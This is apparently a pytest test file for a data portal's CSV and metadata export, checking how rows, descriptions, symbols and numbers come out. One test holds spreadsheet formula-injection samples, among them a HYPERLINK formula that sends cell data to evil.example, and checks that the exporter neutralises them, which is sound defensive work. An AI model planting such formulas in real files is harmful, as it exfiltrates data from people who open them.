"""The files of a table taken away: read back they are what the door answers, and the description fits the rows."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from collections.abc import Iterator
from dataclasses import replace
from datetime import date
from typing import Any

import pytest

from data_access.access.viewer import Viewer
from data_access.definitions.models import HistoryEntry
from data_access.portal import Portal
from data_access.questions import Answer, Query, Row
from data_access.take_away.columns import columns
from data_access.take_away.rows_file import harmless, rows_file
from data_access.take_away.symbols import SYMBOLS, symbols
from data_access.take_away.table import Answered, Part, Table, TakenAway
from data_access.viewer_portal import ViewerPortal
from tests.pages import take_away_world
from tests.pages.fake_definitions import CONTRACTS
from tests.pages.rows import metric, row, suppressed

JANUARY, MARCH = (date(2026, 1, 1), date(2026, 1, 31)), (date(2026, 3, 1), date(2026, 3, 31))
READ = {
    "string": str,
    "number": float,
    "integer": int,
    "date": date.fromisoformat,
    "boolean": {"true": True, "false": False}.__getitem__,
}


@pytest.fixture(scope="module")
def portal(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Portal]:
    opened = Portal.open(take_away_world.write(tmp_path_factory.mktemp("take-away")))
    yield opened
    opened.state.close()


@pytest.fixture(scope="module")
def door(portal: Portal) -> ViewerPortal:
    return portal.for_viewer(Viewer("taker", "Tay Taker", ("taker",)))


def take(door: ViewerPortal, *queries: Query, report: str | None = None, name: str = "visits") -> TakenAway:
    parts = tuple(Part(query, replace(query, by=(), over=None)) for query in queries)
    offer = door.offer(Table(name, "A “table”, of visits", parts, report))
    assert offer is not None
    return door.take_away(offer)


def files(made: TakenAway) -> tuple[str, bytes, dict[str, Any]]:
    """The name of the rows' file, its bytes, and the description."""
    archive = zipfile.ZipFile(io.BytesIO(made.content))
    rows, description = archive.namelist()
    assert description == f"{rows}-metadata.json"
    return rows, archive.read(rows), json.loads(archive.read(description))


def read(made: TakenAway) -> list[dict[str, Any]]:
    """The rows in the types that the description gives their columns; an empty cell is None."""
    _, content, description = files(made)
    described = description["tableSchema"]["columns"]
    heading, *lines = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))
    assert heading == [column["titles"] for column in described]
    types = [column["datatype"] if isinstance(column["datatype"], str) else "string" for column in described]
    return [
        {
            name: READ[kind](cell) if cell else None
            for name, kind, cell in zip(heading, types, line, strict=True)
        }
        for line in lines
    ]  # fmt: skip


def expected(door: ViewerPortal, query: Query, report: str | None, dimensions: tuple[str, ...]) -> list[dict[str, Any]]:
    """What ``ask`` gives, in the columns' names; the note has a test of its own."""
    answer = door.ask(query, report=report)
    assessed = answer.assessed is True
    found = []
    for one in answer.rows:
        cells: dict[str, Any] = {
            "metric": answer.metric.id,
            "metric_name": answer.metric.name,
            "period_start": one.period or query.start,
            "period_end": one.period_end or query.end,
            "partial": one.partial,
            "unit": answer.metric.unit,
            "verdict": one.verdict and one.verdict.replace("_", " "),
        }
        for name in dimensions:
            key = one.keys[query.by.index(name)]
            cells[f"{name}_code"] = None if key is None else harmless(key) if isinstance(key, str) else str(key)
            cells[f"{name}_name"] = harmless(door.label(query.metric, name, key))
        for name in ("value", "confidence", "records", "target"):
            cells[name] = getattr(one, name)
        for name in ("low", "high", "likely_low", "likely_high", "in_doubt"):
            cells[name] = getattr(one, name) if assessed else None
        for name in ("complete", "accurate", "timely"):
            cells[name] = getattr(one.fact, name) if one.fact else None
        found.append(cells)
    return found


SECTION = tuple(Query(name, by=("place",), start=MARCH[0], end=MARCH[1]) for name in ("in_time", "visits", "satisfied"))


@pytest.mark.parametrize(
    ("queries", "report"),
    [
        (SECTION, "own"),
        ((Query("in_time", over="month", start=JANUARY[0], end=MARCH[1]),), None),
        ((Query("in_time", over="month"),), None),
        ((replace(SECTION[0], where=(("place", ("A", "B")),)),), None),
        ((replace(SECTION[0], by=("visitors", "place"), start=date(2026, 1, 9), end=date(2026, 2, 20)),), None),
        ((Query("visits", over="quarter", by=("place",), where=(("place", ("-D",)),), end=date(2026, 2, 20)),), "own"),
    ],
    ids=["a section", "a trend", "an open trend", "a filter", "own dates", "everything"],
)
def test_the_files_read_back_are_what_the_door_answers(
    door: ViewerPortal, queries: tuple[Query, ...], report: str | None
) -> None:
    made = take(door, *queries, report=report)
    rows = read(made)
    assert [{name: cell for name, cell in one.items() if name != "note"} for one in rows] == [
        cells for query in queries for cells in expected(door, query, report, query.by)
    ]
    assert made.rows == len(rows) > 0


def test_a_scoped_report_is_taken_away_for_the_viewers_own_records_alone(portal: Portal) -> None:
    local = portal.for_viewer(Viewer("lo", "Lo Local", ("local",), (("place", ("B",)),)))
    made = take(local, *SECTION, report="own")
    assert {one["place_code"] for one in read(made)} == {"B", None}
    said = files(made)[2]["schema:variableMeasured"][0]["schema:query"]
    assert said.endswith(f"only the records that this person may see, =Place, code: {take_away_world.HOSTILE['B']}")


def test_every_column_is_described_in_order_as_csv_on_the_web_wants_it(door: ViewerPortal) -> None:
    name, content, description = files(take(door, *SECTION, report="own"))
    assert content.startswith(b"\xef\xbb\xbfmetric,metric_name,period_start,")
    assert content.count(b"\r\n") >= len(content.decode("utf-8-sig").splitlines()) / 2
    assert description["@context"] == ["http://www.w3.org/ns/csvw", {"@language": "en"}]
    assert description["@type"] == "Table"
    assert description["url"] == name
    described = description["tableSchema"]["columns"]
    heading = next(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert [column["titles"] for column in described] == heading
    names = [column["name"] for column in described]
    assert len(set(names)) == len(names)
    for column in described:
        assert re.fullmatch(r"(?!_)(?:[A-Za-z0-9_]|%[0-9A-F]{2})+", column["name"])
        assert column["dc:description"]
        kind = column["datatype"]
        assert (kind if isinstance(kind, str) else kind["base"]) in READ
    units = {column["titles"]: column.get("schema:unitText") for column in described}
    assert (units["value"], units["confidence"]) == ("as in the column unit", "percent")


def test_terms_beyond_those_of_csv_on_the_web_have_a_prefix_that_it_knows(door: ViewerPortal) -> None:
    description = files(take(door, *SECTION, report="own"))[2]
    own = {"@context", "@type", "url", "dialect", "tableSchema"}
    terms = set(_keys({name: value for name, value in description.items() if name not in own}))
    terms |= {name for column in description["tableSchema"]["columns"] for name in column} - {
        "name",
        "titles",
        "datatype",
    }
    prefixes = {term.split(":")[0] for term in terms}
    assert prefixes <= {"dc", "dcat", "dqv", "prov", "qb", "schema", "skos", "vcard", "https", "@type"}


def _keys(value: Any) -> Iterator[str]:
    if isinstance(value, dict):
        yield from value
    for inner in value.values() if isinstance(value, dict) else value if isinstance(value, list) else ():
        yield from _keys(inner)


def test_the_description_says_what_it_is_who_answers_for_it_and_how_far_it_can_be_trusted(door: ViewerPortal) -> None:
    query = Query("in_time", over="month", where=(("place", ("B", "(blank)")),), start=JANUARY[0], end=MARCH[1])
    part = Part(query, replace(query, over=None, start=MARCH[0]))
    name, _, found = files(door.take_away(door.offer(Table("in_time-by-month", "In time, by month", (part,), "own"))))
    assert name == "in_time-by-month-2026-01-01-to-2026-03-31.csv"
    said = {term: found.get(term) for term in found if term.startswith("d") and ":" in term}
    assert said == {
        "dc:title": "In time, by month",
        "dc:description": 'Visits "in time", of all: Of those made, how many in time.',
        "dc:identifier": "in_time-by-month-2026-01-01-to-2026-03-31",
        "dc:type": "dcat:Dataset",
        "dc:creator": 'Test council, "the best"',
        "dc:publisher": 'Test council, "the best"',
        "dcat:contactPoint": {"vcard:fn": "Sam Steward", "vcard:hasEmail": "s@example.org"},
        "dc:issued": "2026-04-15",
        "dc:modified": "2026-04-14",
        "dc:accrualPeriodicity": "http://purl.org/cld/freq/daily",
        "dcat:version": "2",
        "dc:accessRights": "INTERNAL",
        "dc:rights": "Made for Tay Taker under their own rights. Hand it on only to people who may see the same.",
        "dc:isPartOf": {"dc:identifier": "own", "dc:title": "Your place", "schema:audience": "The forum, weekly"},
    }
    assert next(value for term, value in found.items() if term.endswith("/securityClassification")) == "OFFICIAL"
    [measured] = found["schema:variableMeasured"]
    assert measured["dc:source"] == "The national return"
    assert measured["skos:historyNote"] == [
        "Version 1, from 2026-01-01: First.",
        "Version 2, from 2026-02-15: Late ones count. This breaks the series: figures before and after cannot be "
        "compared.",
    ]
    label = take_away_world.HOSTILE["B"]
    assert measured["schema:query"] == (
        'Visits "in time", of all, by month, from 2026-01-01, to 2026-03-31, '
        f"only =Place, code: {label} or Not recorded"
    )
    assert measured["dqv:hasQualityAnnotation"] == "Fit for purpose: attested on 31 Jan 2026 by Olive Owner"
    assert "breaks the series" in " ".join(measured["skos:note"])
    assert measured["schema:accountablePerson"]["vcard:fn"] == "Olive Owner"
    assert measured["schema:maintainer"]["vcard:fn"] == "Sam Steward"
    assert measured["prov:wasDerivedFrom"]["skos:scopeNote"] == "Limitations: Not the weekends."
    assert measured["prov:wasDerivedFrom"]["schema:usageInfo"] == "Not for a single visit."
    assert measured["prov:wasDerivedFrom"]["dc:modified"] == "2026-04-14"
    figure = {
        one["schema:name"]: one["schema:value"] for one in measured["qb:observation"]["schema:additionalProperty"]
    }
    [march] = door.ask(part.figure, report="own").rows
    assert march.in_doubt
    assert march.fact
    for term in ("value", "low", "high", "likely_low", "likely_high", "confidence", "records", "in_doubt", "target"):
        assert figure[term] == getattr(march, term)
    for term in ("complete", "accurate", "timely"):
        assert figure[term] == getattr(march.fact, term)
    assert (figure["period_start"], figure["period_end"]) == ("2026-03-01", "2026-03-31")
    assert figure["verdict"] == march.verdict.replace("_", " ")


def test_every_symbol_and_every_verdict_is_explained_beside_the_rows(door: ViewerPortal) -> None:
    described = {column["titles"]: column for column in files(take(door, SECTION[0]))[2]["tableSchema"]["columns"]}
    assert [symbol for symbol in SYMBOLS if f"{symbol} = " not in described["note"]["dc:description"]] == []
    verdicts = described["verdict"]["datatype"]["format"].split("|")
    assert verdicts == ["met", "likely met", "cannot tell", "likely missed", "missed"]
    assert [one for one in verdicts if f"{one} = the " not in described["verdict"]["dc:description"]] == []


def test_no_label_or_name_can_run_in_a_spreadsheet_and_the_description_says_how(door: ViewerPortal) -> None:
    made = take(door, *SECTION, report="own", name="=1+1: “Visits” of Łódź's / ..\\")
    name, content, description = files(made)
    cells = [cell for line in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")) for cell in line]
    assert [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r", "-D"))] == []
    for label in ('\'=HYPERLINK("http://evil.example/?x="&A1,"Click")', "'@SUM(1;'=2+2)", "'\t'+44 20", "'-D"):
        assert label in cells
    assert take_away_world.HOSTILE["B"] in cells
    assert take_away_world.HOSTILE["F"] in cells
    assert "apostrophe" in " ".join(description["skos:note"])
    assert name == "1-1-Visits-of-odzs-2026-03-01-to-2026-03-31.csv"
    assert made.name == name.replace(".csv", ".zip")


@pytest.mark.parametrize(
    ("text", "made"),
    [
        ("=1", "'=1"), ("+1", "'+1"), ("-1", "'-1"), ("@a", "'@a"), ("＝1", "'＝1"), ("\ta", "'\ta"), ("\0=1", "'\0=1"),
        ("a;=1", "a;'=1"), ("a\n=1", "a\n'=1"), ("a=1", "a=1"), ("5-11", "5-11"), ("", ""), ("'=1", "'=1"),
    ],
)  # fmt: skip
def test_what_a_spreadsheet_would_run_is_made_harmless(text: str, made: str) -> None:
    assert harmless(text) == made


def answered(*rows: Row, **changes: Any) -> Answered:
    """Rows by hand, for what no record gives."""
    query = Query("plans", start=JANUARY[0], end=JANUARY[1])
    answer = Answer(query, metric(), CONTRACTS["ehc_plans"], rows, None, True, "", (), "1")
    return Answered(replace(answer, **changes), answer, (), False, lambda _, key: str(key))


@pytest.mark.parametrize(
    ("value", "written"),
    [(1e-7, "0.0000001"), (1e21, "1000000000000000000000"), (1234567.0, "1234567"), (-2.5, "-2.5"), (0.1 + 0.2, None)],
)
def test_a_figure_has_all_its_digits_a_point_and_no_exponent(value: float, written: str | None) -> None:
    part = answered(row(value=value))
    line = rows_file(columns([part], 85), [part]).decode().splitlines()[1].split(",")
    assert line[5] == (written or repr(value))
    assert float(line[5]) == value


@pytest.mark.parametrize(
    ("one", "expected"),
    [
        (row(verdict="missed"), ""),
        (row(verdict="cannot_tell"), "[u]"),
        (row(verdict="met", confidence=84.9), "[u]"),
        (row(verdict="met", confidence=85.0), ""),
        (row(verdict="met", partial=True), "[p]"),
        (row(value=None, verdict=None), "[x]"),
        (suppressed(), "[c]"),
        (replace(suppressed(), partial=True), "[c] [p]"),
    ],
)
def test_the_note_holds_the_symbols_that_apply(one: Row, expected: str) -> None:
    assert symbols(answered(one).rows, one, 85) == expected


def test_a_figure_that_nothing_checks_is_unreliable_and_claims_no_range() -> None:
    one = row(confidence=None, fact=None, verdict=None, in_doubt=0)
    part = answered(one, assessed=("decision",))
    line = next(csv.DictReader(io.StringIO(rows_file(columns([part], 85), [part]).decode("utf-8-sig"))))
    assert line["note"] == "[u]"
    assert line["value"] == "62"
    assert [line[name] for name in ("low", "high", "likely_low", "likely_high", "in_doubt", "confidence")] == [""] * 6


@pytest.mark.parametrize(("day", "broken"), [(9, False), (10, True), (15, True), (30, True), (31, False)])
def test_the_period_in_which_the_definition_changed_is_marked_as_a_break(day: int, broken: bool) -> None:
    changed = (HistoryEntry(version=2, on=date(2026, 1, day), what="Counted anew.", breaks_series=True),)
    one = row(period=date(2026, 1, 10), period_end=date(2026, 1, 30))
    part = answered(one, metric=metric(history=changed))
    assert symbols(part.rows, one, 85) == ("[b]" if broken else "")


def test_a_table_without_rows_is_a_file_with_its_heading(door: ViewerPortal) -> None:
    nothing = replace(SECTION[0], start=date(2025, 1, 1), end=date(2025, 1, 31), where=(("place", ("A",)),))
    made = take(door, replace(nothing, by=(), over="month", start=None, end=date(2025, 1, 31)))
    assert made.rows == 0
    assert read(made) == []
    assert files(made)[2]["tableSchema"]["columns"][0]["name"] == "metric"
